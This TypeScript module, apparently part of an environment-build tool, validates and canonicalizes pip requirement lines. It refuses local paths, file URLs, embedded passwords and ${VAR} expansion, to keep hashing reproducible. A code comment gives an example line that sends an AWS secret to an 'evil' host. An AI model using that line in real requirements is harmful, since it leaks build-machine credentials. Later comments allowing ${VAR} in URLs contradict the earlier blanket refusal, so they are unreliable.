import { createError, type EnvforgeError, type SourceLocation } from "@envforge/core/plugin-kit";
import {
  CanonicalizeError,
  canonicalName,
  formatMarker,
  formatRequirement,
  normalizeVersion,
  parsePep508,
  parsePlainPep508,
  Pep508SyntaxError,
  sortedUnique,
  type Pep508Requirement,
} from "@envforge/python";
import type { Positioner } from "./requirements-file.js";

/** One requirement as the pip section keeps it: its canonical line and what the warnings need. */
export interface PipRequirement {
  /** Canonical requirements-file line: installable by pip as is, and what gets hashed. */
  canonical: string;
  /** PEP 503 name; `undefined` for a URL that does not say which project it is. */
  name: string | undefined;
  /** Pinned to one artifact: `==`/`===` (no wildcard), or a URL with a hash or a commit. */
  pinned: boolean;
  /** As the user wrote it. */
  written: string;
  location: SourceLocation;
  /** Dotted spec field it came from (`python.pip[2]`, `python.pipRequirements`). */
  field?: string | undefined;
  /**
   * The exact versions it pins (`==`, `===`; PEP 440-normalized, so `1.0` and `1.0.0` are one)
   * and its canonical marker (`""` for none): two pins of a project under one marker must agree
   * (pins.ts). Absent for URLs and requirements without an exact clause.
   */
  exact?: { versions: string[]; marker: string } | undefined;
}

export interface RequirementInput {
  text: string;
  editable: boolean;
  hashes: string[];
  configSettings: string[];
  at: Positioner;
  location: SourceLocation;
  /** Dotted spec field the line came from, for errors. */
  field: string;
}

const ARCHIVE = /\.(whl|zip|tar|tar\.gz|tgz|tar\.bz2|tbz|tar\.xz|txz|tar\.lz|tlz)$/i;
const URL_SCHEME = /^([a-z][a-z0-9+.-]*):\/\//i;
const VCS_SCHEME = /^(git|hg|svn|bzr)\+/i;
const HASH_OPTION = /^(sha256|sha384|sha512):([0-9a-f]+)$/i;
const HASH_LENGTH: Record<string, number> = { sha256: 64, sha384: 96, sha512: 128 };
/** A `/` before the first `;` or `@`: a path, not a name (`pkg @ https://…` and markers may hold one). */
const SLASH_BEFORE_MARKER_OR_URL = /^[^;@]*\//;
const STRONG_FRAGMENT = /#(?:.*&)?(sha256|sha384|sha512)=[0-9a-f]+/i;

const NOT_REPRODUCIBLE_HINT =
  "name a released version (name==1.2.3), a wheel URL with #sha256=..., or a VCS URL pinned to a commit " +
  "(git+https://host/repo.git@<commit>#egg=name); local folders and files are not part of the definition, so their content cannot be hashed";

function refuse(message: string, input: RequirementInput, offset = 0, hint = NOT_REPRODUCIBLE_HINT): EnvforgeError {
  return createError("E_INVALID_REQUIREMENT", message, { location: input.at(offset), field: input.field, hint });
}

/**
 * Interprets one requirement line: a PEP 508 requirement, a URL (hashed as written), or an
 * editable VCS URL. Local paths and editable folders are refused: what they install is whatever
 * is on disk at build time, which no hash of the definition can capture.
 */
export function interpretRequirement(input: RequirementInput): PipRequirement {
  const text = input.text;
  // pip expands ${VAR} from its own environment on every line it reads: a shared definition
  // could send any of the build machine's variables to any URL (pkg @ https://evil/${AWS_SECRET}),
  // and the hash would not see what gets installed. Credentials belong in builder options.
  if (text.includes("${")) {
    throw refuse(
      `"${text}" uses an environment variable (\${…})`,
      input,
      text.indexOf("${"),
      "write the value itself; credentials for a private index or host go in builder options (-o pip.indexUrl=https://user:token@host/simple), never in the definition",
    );
  }
  const suffix = requirementOptions(input);
  // A plain requirement (a name, extras, version clauses: most lines) holds nothing the checks
  // below look for (no URL, path, `@` or variable): straight to its canonical form.
  let plain: Pep508Requirement | undefined;
  try {
    plain = input.editable ? undefined : parsePlainPep508(text);
  } catch (cause) {
    throw syntaxError(cause, input); // its marker, read by the tokenizer
  }
  if (plain !== undefined) {
    refuseArchive(plain, input);
    return fromParsed(plain, suffix, input);
  }
  if (input.editable) {
    if (!URL_SCHEME.test(text) || !VCS_SCHEME.test(text) || /^[a-z]+\+file:/i.test(text)) {
      throw refuse(`editable requirement "${text}" is not a VCS URL: an editable install builds a local folder in place`, input);
    }
    checkUrl(text, input, 0);
    return urlRequirement(`-e ${text}`, text, suffix, input);
  }
  if (URL_SCHEME.test(text)) {
    checkUrl(text, input, 0);
    // pip reads `url; marker` (with the space) for URL lines.
    const sep = text.indexOf("; ");
    if (sep < 0) return urlRequirement(text, text, suffix, input);
    const url = text.slice(0, sep).trimEnd();
    const marker = parseMarkerOnly(text.slice(sep + 1), input, sep + 1);
    return urlRequirement(marker ? `${url}; ${marker}` : url, url, suffix, input);
  }
  if (/^[.~/\\]/.test(text) || /^[a-z]:[\\/]/i.test(text) || SLASH_BEFORE_MARKER_OR_URL.test(text)) {
    throw refuse(`"${text}" is a local path`, input);
  }
  // pip expands ${VAR} on every line before parsing it. Inside a URL that is how credentials
  // stay out of the definition; anywhere else the hash would not see what gets installed.
  const envVarOutside = (rest: string) => {
    if (rest.includes("${")) {
      throw refuse(`"${text}" uses an environment variable`, input, text.indexOf("${"), "write the value itself (only URLs may use ${VAR}, e.g. for a token): the hash must see what gets installed");
    }
  };
  const at = text.indexOf("@");
  envVarOutside(at < 0 ? text : text.slice(0, at));
  let parsed: Pep508Requirement;
  try {
    parsed = parsePep508(text);
  } catch (cause) {
    throw syntaxError(cause, input);
  }
  refuseArchive(parsed, input);
  envVarOutside(parsed.url === undefined ? text : text.replace(parsed.url, ""));
  if (parsed.url !== undefined) {
    const urlOffset = text.indexOf(parsed.url);
    if (!URL_SCHEME.test(parsed.url)) throw refuse(`"${parsed.url}" is a local path, not a URL`, input, urlOffset);
    checkUrl(parsed.url, input, urlOffset);
  }
  return fromParsed(parsed, suffix, input);
}

function syntaxError(cause: unknown, input: RequirementInput): unknown {
  if (!(cause instanceof Pep508SyntaxError)) return cause;
  return createError("E_INVALID_REQUIREMENT", `invalid requirement "${input.text}": ${cause.message} (at character ${cause.offset + 1})`, {
    location: input.at(cause.offset),
    field: input.field,
    hint: "write a PEP 508 requirement such as name==1.2.3, name[extra]>=1,<2 or name @ https://host/name-1.0-py3-none-any.whl",
  });
}

function refuseArchive(parsed: Pep508Requirement, input: RequirementInput): void {
  if (parsed.url === undefined && parsed.specifiers.length === 0 && ARCHIVE.test(parsed.name)) {
    throw refuse(`"${input.text}" is a local archive file`, input);
  }
}

/** The requirement from its parse, once every check of what it may name has passed. */
function fromParsed(parsed: Pep508Requirement, suffix: string, input: RequirementInput): PipRequirement {
  const text = input.text;
  const name = canonicalName(parsed.name);
  const clauses: string[] = [];
  let canonical: string;
  try {
    canonical = formatRequirement(parsed, name, clauses);
  } catch (cause) {
    if (!(cause instanceof CanonicalizeError)) throw cause;
    throw createError("E_INVALID_REQUIREMENT", `invalid requirement "${text}": ${cause.message}`, {
      location: input.at(cause.offset),
      field: input.field,
      hint: "versions follow PEP 440, e.g. 1.2.3, 2.0rc1, 1.0.post1",
    });
  }
  // `===` compares strings, but a pin is only called contradictory when no version could meet
  // both: compared normalized, `===1.0` beside `==1.0.0` is let through (pip decides). A `==`
  // clause's canonical text is already `==` and its version normalized that way.
  const versions: string[] = [];
  const specifiers = parsed.specifiers;
  for (let i = 0; i < specifiers.length; i++) {
    const c = specifiers[i]!;
    if (c.operator === "===") versions.push(normalizeVersion(c.version, { stripTrailingZeros: true }) ?? c.version);
    else if (c.operator === "==" && !c.version.endsWith(".*")) versions.push(clauses[i]!.slice(2));
  }
  const pinned = parsed.url !== undefined ? urlPinned(parsed.url, input.hashes.length > 0) : versions.length > 0;
  let exact: PipRequirement["exact"];
  if (parsed.url === undefined && versions.length > 0) {
    exact = { versions: sortedUnique(versions), marker: parsed.marker ? formatMarker(parsed.marker) : "" };
  }
  // One shape for every requirement (`exact` set or not): no shape change after the object is made.
  return { canonical: canonical + suffix, name, pinned, written: text, location: input.location, field: input.field, exact };
}

function parseMarkerOnly(markerText: string, input: RequirementInput, offset: number): string | undefined {
  if (markerText.trim() === "") return undefined;
  try {
    // A marker alone parses as the marker of a requirement named `x`.
    const req = parsePep508(`x;${markerText}`);
    return req.marker ? formatMarker(req.marker) : undefined;
  } catch (cause) {
    if (!(cause instanceof Pep508SyntaxError)) throw cause;
    throw createError("E_INVALID_REQUIREMENT", `invalid marker in "${input.text}": ${cause.message}`, {
      location: input.at(offset + Math.max(0, cause.offset - 2)),
      field: input.field,
      hint: 'markers look like python_version < "3.12" and sys_platform == "linux"',
    });
  }
}

function urlRequirement(canonical: string, url: string, suffix: string, input: RequirementInput): PipRequirement {
  const egg = /#(?:.*&)?egg=([A-Za-z0-9][A-Za-z0-9._-]*)/.exec(url)?.[1];
  const wheel = /\/([A-Za-z0-9][A-Za-z0-9._]*)-[^/-]+-[^/]*\.whl(?:[#?].*)?$/.exec(url)?.[1];
  const name = egg ?? wheel;
  return {
    canonical: canonical + suffix,
    name: name === undefined ? undefined : canonicalName(name),
    pinned: urlPinned(url, input.hashes.length > 0),
    written: input.text,
    location: input.location,
    field: input.field,
  };
}

/** A URL names one artifact when it carries its hash, or a VCS URL names a full commit. */
function urlPinned(url: string, hashed: boolean): boolean {
  if (hashed || STRONG_FRAGMENT.test(url)) return true;
  const vcs = VCS_SCHEME.exec(url)?.[1]?.toLowerCase();
  if (!vcs) return false;
  const path = url.replace(/[#?].*$/, "").replace(URL_SCHEME, "");
  const rev = /@([^@/]+)$/.exec(path)?.[1];
  if (rev === undefined) return false;
  if (vcs === "svn") return /^\d+$/.test(rev);
  return /^([0-9a-f]{40}|[0-9a-f]{64})$/i.test(rev);
}

function checkUrl(url: string, input: RequirementInput, offset: number): void {
  const scheme = URL_SCHEME.exec(url)![1]!.toLowerCase();
  if (scheme === "file" || scheme.endsWith("+file")) throw refuse(`"${url}" is a local file URL`, input, offset);
  const authority = url.replace(URL_SCHEME, "").split(/[/?#]/)[0] ?? "";
  const at = authority.lastIndexOf("@");
  const userinfo = at < 0 ? "" : authority.slice(0, at);
  const password = userinfo.includes(":") ? userinfo.slice(userinfo.indexOf(":") + 1) : "";
  if (password !== "") {
    throw refuse(
      `the URL in "${input.text.replace(password, "***")}" contains a password`,
      input,
      offset,
      "requirement URLs are hashed and printed; give credentials as builder options (-o pip.indexUrl=https://user:token@host/simple), never in the definition",
    );
  }
}

/** Per-requirement options, canonical: hashes lowercased, both lists sorted. */
function requirementOptions(input: RequirementInput): string {
  if (input.hashes.length === 0 && input.configSettings.length === 0) return ""; // most lines: nothing to sort or check
  const hashes = input.hashes.map((h) => {
    const m = HASH_OPTION.exec(h);
    const algo = m?.[1]?.toLowerCase();
    if (!m || !algo || m[2]!.length !== HASH_LENGTH[algo]) {
      throw createError("E_INVALID_REQUIREMENT", `invalid --hash "${h}" on "${input.text}"`, {
        location: input.location,
        field: input.field,
        hint: "write --hash=sha256:<64 hex digits> (pip accepts sha256, sha384 and sha512)",
      });
    }
    return `--hash=${algo}:${m[2]!.toLowerCase()}`;
  });
  if (input.configSettings.some((s) => s.includes("${"))) {
    throw refuse(
      `--config-settings on "${input.text}" uses an environment variable (\${…})`,
      input,
      0,
      "write the value itself: a build setting changes what gets installed, and the hash must see it",
    );
  }
  const settings = input.configSettings.map((s) => `--config-settings=${quoteWord(s)}`);
  const all = [...sortedUnique(settings), ...sortedUnique(hashes)];
  return all.length === 0 ? "" : ` ${all.join(" ")}`;
}

function quoteWord(word: string): string {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word)) return word;
  return word.includes("'") ? `"${word.replace(/(["\\$`])/g, "\\$1")}"` : `'${word}'`;
}
